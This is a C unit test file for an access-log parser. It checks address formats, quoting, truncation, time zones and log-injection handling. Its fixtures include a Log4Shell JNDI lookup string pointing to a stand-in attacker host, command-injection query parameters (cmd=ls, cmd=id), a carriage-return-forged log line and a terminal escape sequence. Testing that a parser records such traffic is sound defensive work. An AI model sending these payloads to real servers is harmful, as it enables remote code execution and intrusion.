/* SPDX-License-Identifier: Apache-2.0
 *
 * test_access.c - access logs as servers and intruders really write them.
 */
#include "records.h"

#define STAMP "[10/Oct/2025:13:55:36 +0200]"
#define COMMON "192.0.2.7 - frank " STAMP " \"GET /a.html HTTP/1.0\" 200 2326"

static records *one(const char *line)
{
    records *r = records_of(hmi_text_bytes(hmi_text_of(line)), HMI_TIME_NONE);
    CHECK_EQ(r->code, HM_OK);
    if (r->count != 1) {
        print_error("%zu events from: %s\n", r->count, line);
    }
    CHECK_EQ(r->count, 1);
    CHECK(records_won(r, "combined"));
    return r;
}

TEST(common)
{
    records *r = one(COMMON "\n");
    const hmi_event *e = &r->events[0];
    CHECK_EQ(e->kind, HMI_EVENT_REQUEST);
    CHECK_EQ(e->time.us, records_us("2025-10-10T11:55:36Z"));
    CHECK_EQ(e->time.zone_minutes, 120);
    CHECK_EQ(e->time.trust, HMI_TIME_EXACT);
    CHECK_EQ(e->status, 200);
    CHECK_EQ(e->bytes, 2326);
    CHECK(!e->cut);
    CHECK_TEXT(field_of(e, HMI_ADDRESS, HMI_ROLE_CLIENT, 0), "192.0.2.7");
    CHECK_TEXT(field_of(e, HMI_ACCOUNT, HMI_ROLE_USER, 0), "frank");
    CHECK_TEXT(field_of(e, HMI_REQUEST_SHAPE, HMI_ROLE_QUERY, 0), "GET /a.html");
    records_free(r);
}

TEST(combined_with_crlf)
{
    records *r = one(COMMON " \"http://ref.example.net/x\" \"Mozilla/5.0 (X11)\"\r\n");
    const hmi_event *e = &r->events[0];
    CHECK_TEXT(field_of(e, HMI_URL, HMI_ROLE_REFERRER, 0), "http://ref.example.net/x");
    CHECK_TEXT(field_of(e, HMI_USER_AGENT, HMI_ROLE_CLIENT, 0), "Mozilla/5.0 (X11)");
    CHECK(!e->cut);
    records_free(r);
}

TEST(clients_in_every_dress)
{
    static const struct {
        const char *head, *client, *vhost;
        hmi_class class_id;
    } rows[] = {
        { "2001:db8::1 - - ", "2001:db8::1", NULL, HMI_ADDRESS },
        { "::1 - - ", "::1", NULL, HMI_ADDRESS },
        { "fe80::1%eth0 - - ", "fe80::1", NULL, HMI_ADDRESS },
        { "[2001:db8::2]:4711 - - ", "2001:db8::2", NULL, HMI_ADDRESS },
        { "192.0.2.9:4711 - - ", "192.0.2.9", NULL, HMI_ADDRESS },
        { "proxy.example.org - - ", "proxy.example.org", NULL, HMI_DOMAIN },
        { "www.example.net:443 192.0.2.1 - - ", "192.0.2.1", "www.example.net", HMI_ADDRESS },
        { "www.example.net 192.0.2.1 - john doe ", "192.0.2.1", "www.example.net", HMI_ADDRESS },
        { "www.example.net:80 proxy.example.org - - ", "proxy.example.org", "www.example.net",
          HMI_DOMAIN },
        { "www.example.net 2001:db8::5 - - ", "2001:db8::5", "www.example.net", HMI_ADDRESS },
        { "198.51.100.1, 192.0.2.2 - - ", "198.51.100.1", NULL, HMI_ADDRESS },
    };
    for (size_t i = 0; i < HMI_COUNT(rows); i++) {
        char line[256];
        snprintf(line, sizeof(line), "%s" STAMP " \"GET / HTTP/1.1\" 200 5\n", rows[i].head);
        records *r = one(line);
        const hmi_event *e = &r->events[0];
        CHECK_TEXT(field_of(e, rows[i].class_id, HMI_ROLE_CLIENT, 0), rows[i].client);
        CHECK_TEXT(field_of(e, HMI_DOMAIN, HMI_ROLE_SERVER, 0), rows[i].vhost ? rows[i].vhost : "");
        records_free(r);
    }
}

TEST(a_user_may_hold_spaces_and_brackets)
{
    records *r = one("192.0.2.1 - DOM\\\\john [x] doe " STAMP " \"GET / HTTP/1.1\" 401 -\n");
    CHECK_TEXT(field_of(&r->events[0], HMI_ACCOUNT, HMI_ROLE_USER, 0), "DOM\\\\john [x] doe");
    records_free(r);
    r = one("192.0.2.1 - \"\" " STAMP " \"GET / HTTP/1.1\" 401 -\n");
    CHECK_EQ(field_of(&r->events[0], HMI_ACCOUNT, HMI_ROLE_NONE, 0).len, 0);
    records_free(r);
}

TEST(quotes_escaped_and_not)
{
    records *r = one("192.0.2.1 - - " STAMP " \"GET /?q=\\\"a\\\" HTTP/1.1\" 200 5 \"-\" "
                     "\"say \\\"hi\\\" \\\\\"\n");
    const hmi_event *e = &r->events[0];
    CHECK_TEXT(field_of(e, HMI_REQUEST_SHAPE, HMI_ROLE_QUERY, 0), "GET /?q=\\\"a\\\"");
    CHECK_TEXT(field_of(e, HMI_USER_AGENT, HMI_ROLE_CLIENT, 0), "say \\\"hi\\\" \\\\");
    CHECK_EQ(field_of(e, HMI_URL, HMI_ROLE_REFERRER, 0).len, 0);
    CHECK(!e->cut);
    records_free(r);

    r = one("192.0.2.1 - - " STAMP " \"GET /?q=\"x\" y HTTP/1.1\" 200 5 \"-\" \"a\"b\"\n");
    e = &r->events[0];
    CHECK_TEXT(field_of(e, HMI_REQUEST_SHAPE, HMI_ROLE_QUERY, 0), "GET /?q=\"x\" y");
    CHECK_TEXT(field_of(e, HMI_USER_AGENT, HMI_ROLE_CLIENT, 0), "a\"b");
    records_free(r);
}

TEST(requests_that_are_none)
{
    static const char *const requests[] = { "-",   "",    "\\x16\\x03\\x01\\x02",
                                            "\\n", "GET", "\x16\x03\x01" };
    for (size_t i = 0; i < HMI_COUNT(requests); i++) {
        char line[256];
        snprintf(line, sizeof(line), "192.0.2.1 - - " STAMP " \"%s\" 400 166 \"-\" \"-\"\n",
                 requests[i]);
        records *r = one(line);
        CHECK_EQ(r->events[0].status, 400);
        CHECK_EQ(r->events[0].field_count, 1);
        records_free(r);
    }
}

TEST(what_was_asked_for)
{
    records *r = one("192.0.2.1 - - " STAMP " \"CONNECT evil.example.com:443 HTTP/1.1\" 200 5\n");
    CHECK_TEXT(field_of(&r->events[0], HMI_DOMAIN, HMI_ROLE_QUERY, 0), "evil.example.com");
    records_free(r);
    r = one("192.0.2.1 - - " STAMP " \"GET http://evil.example.com/a?b HTTP/1.1\" 200 5\n");
    CHECK_TEXT(field_of(&r->events[0], HMI_URL, HMI_ROLE_QUERY, 0), "http://evil.example.com/a?b");
    records_free(r);
    r = one("192.0.2.1 - - " STAMP " \"GET /a b c\" 200 5\n");
    CHECK_TEXT(field_of(&r->events[0], HMI_REQUEST_SHAPE, HMI_ROLE_QUERY, 0), "GET /a b c");
    records_free(r);
}

TEST(forwarded_for_behind_the_agent)
{
    records *r = one("10.0.0.1 - - " STAMP " \"GET / HTTP/1.1\" 200 5 \"-\" \"curl/8 192.0.2.99\" "
                     "\"198.51.100.7, 10.0.0.2\"\n");
    const hmi_event *e = &r->events[0];
    CHECK_TEXT(field_of(e, HMI_ADDRESS, HMI_ROLE_CLIENT, 0), "10.0.0.1");
    CHECK_TEXT(field_of(e, HMI_ADDRESS, HMI_ROLE_CLIENT, 1), "198.51.100.7");
    CHECK_TEXT(field_of(e, HMI_ADDRESS, HMI_ROLE_CLIENT, 2), "10.0.0.2");
    CHECK_EQ(field_of(e, HMI_ADDRESS, HMI_ROLE_CLIENT, 3).len, 0);
    records_free(r);
}

TEST(a_cut_record_keeps_what_stands_before_the_cut)
{
    records *r = one("192.0.2.1 - - " STAMP " \"GET /abc");
    CHECK(r->events[0].cut);
    CHECK_TEXT(field_of(&r->events[0], HMI_ADDRESS, HMI_ROLE_CLIENT, 0), "192.0.2.1");
    CHECK_TEXT(field_of(&r->events[0], HMI_REQUEST_SHAPE, HMI_ROLE_QUERY, 0), "GET /abc");
    CHECK_EQ(r->sums.cut, 1);
    records_free(r);
    r = one("192.0.2.1 - - " STAMP);
    CHECK(r->events[0].cut);
    records_free(r);
}

TEST(times_of_other_zones_and_leap_seconds)
{
    records *r = one("192.0.2.1 - - [31/Dec/2016:23:59:60 +0000] \"GET / HTTP/1.1\" 200 5\n");
    CHECK_EQ(r->events[0].time.us, records_us("2016-12-31T23:59:59.999999Z"));
    records_free(r);
    static const char lines[] =
        "192.0.2.1 - - [29/Mar/2026:01:59:59 +0100] \"GET / HTTP/1.1\" 200 5\n"
        "192.0.2.1 - - [29/Mar/2026:03:00:00 +0200] \"GET / HTTP/1.1\" 200 5\n"
        "192.0.2.1 - - [29/Mar/2026:03:00:01 -0330] \"GET / HTTP/1.1\" 200 5\n";
    r = records_of(HM_BYTES(lines), HMI_TIME_NONE);
    CHECK_EQ(r->count, 3);
    CHECK_EQ(r->events[1].time.us - r->events[0].time.us, 1000000);
    CHECK_EQ(r->events[2].time.us, records_us("2026-03-29T06:30:01Z"));
    records_free(r);
    /* a time that is none is no record */
    r = records_of(
        HM_BYTES("192.0.2.1 - - [31/Feb/2026:03:00:00 +0200] \"GET / HTTP/1.1\" 200 5\n"),
        HMI_TIME_NONE);
    CHECK_EQ(r->count, 0);
    CHECK_EQ(r->sums.skipped, 1);
    records_free(r);
}

TEST(injected_lines_stay_what_they_are)
{
    static const char lines[] = COMMON "\n"
                                       "192.0.2.1 - - " STAMP " \"GET /\r192.0.2.66 - - " STAMP
                                       " \"GET /fake HTTP/1.1\" 200 5 HTTP/1.1\" 200 5\n"
                                       "\x1b]52;c;AAAA\x07 garbage \xff\xfe\n" COMMON "\n";
    collector got;
    hm_err err = { 0 };
    CHECK_OK(records_collect(&got, HM_BYTES(lines), &err));
    CHECK_TEXT(collect_fact_of(&got, "format"), "log");
    CHECK_TEXT(collect_fact_of(&got, "records"), "3");
    const hmi_note *odd = collect_note_of(&got, HMI_NOTE_ODD, "control bytes inside lines");
    assert_non_null(odd);
    CHECK(collect_note_of(&got, HMI_NOTE_DAMAGE, "1 lines not understood") != NULL);
    /* the injected line's address is content of a request, not a client */
    CHECK(!collect_has(&got, HMI_ADDRESS, HMI_ROLE_CLIENT, "192.0.2.66"));
    CHECK_EQ(collect_find(&got, HMI_ADDRESS, HMI_ROLE_CLIENT, "192.0.2.7")->count, 2);
    collect_fini(&got);
}

TEST(giant_lines_are_cut_and_the_rest_is_kept)
{
    size_t giant = HMI_LINE_MAX + 1000, good = strlen(COMMON) + 1;
    uint8_t *text = malloc(giant + 1 + 2 * good);
    memcpy(text, COMMON "\n", good);
    memset(text + good, 'A', giant);
    text[good + giant] = '\n';
    memcpy(text + good + giant + 1, COMMON "\n", good);
    records *r = records_of((hm_bytes){ text, giant + 1 + 2 * good }, HMI_TIME_NONE);
    CHECK_EQ(r->count, 2);
    CHECK_EQ(r->sums.long_lines, 1);
    CHECK_EQ(r->sums.first_long, good);
    CHECK_EQ(r->sums.skipped, 1);
    records_free(r);
    free(text);
}

TEST(traits_of_a_log)
{
    static const char lines[] =
        "198.51.100.9 - - [10/Oct/2025:13:55:36 +0000] \"GET /item/12?id=3&cmd=ls HTTP/1.1\" 200 5 "
        "\"http://ref.bad.org/\" \"${jndi:ldap://evil.bad.org:1389/a}\"\n"
        "198.51.100.9 - - [10/Oct/2025:13:55:30 +0000] \"GET /item/77?id=4&cmd=id HTTP/1.1\" 200 5 "
        "\"-\" \"curl/8.1\"\n";
    collector got;
    hm_err err = { 0 };
    CHECK_OK(records_collect(&got, HM_BYTES(lines), &err));
    const hmi_trait *client = collect_find(&got, HMI_ADDRESS, HMI_ROLE_CLIENT, "198.51.100.9");
    assert_non_null(client);
    CHECK_EQ(client->count, 2);
    CHECK_EQ(client->offset, 0);
    CHECK_EQ(client->first_us, records_us("2025-10-10T13:55:30Z"));
    CHECK_EQ(client->last_us, records_us("2025-10-10T13:55:36Z"));
    const hmi_trait *shape =
        collect_find(&got, HMI_REQUEST_SHAPE, HMI_ROLE_QUERY, "GET /item/{n}?id=&cmd=");
    assert_non_null(shape);
    CHECK_EQ(shape->count, 2);
    CHECK(collect_has(&got, HMI_DOMAIN, HMI_ROLE_REFERRER, "ref.bad.org"));
    CHECK(collect_has(&got, HMI_USER_AGENT, HMI_ROLE_CLIENT, "curl/8.1"));
    CHECK(collect_has(&got, HMI_DOMAIN, HMI_ROLE_CONTENT, "evil.bad.org"));
    CHECK_TEXT(collect_fact_of(&got, "log-formats"), "combined");
    CHECK_TEXT(collect_fact_of(&got, "first-record"), "2025-10-10T13:55:30Z");
    CHECK_TEXT(collect_fact_of(&got, "last-record"), "2025-10-10T13:55:36Z");
    collect_fini(&got);
}

TEST(every_prefix_and_every_flipped_bit_gets_an_answer)
{
    records_sweep(HM_BYTES("www.example.net:80 2001:db8::7 - a b " STAMP " \"GET /\\\"a HTTP/1.1\" "
                           "200 12 \"http://r/\" \"U \\\"A\\\"\" \"192.0.2.1, ::1\"\n" COMMON
                           "\n"));
}

RUN_TESTS()
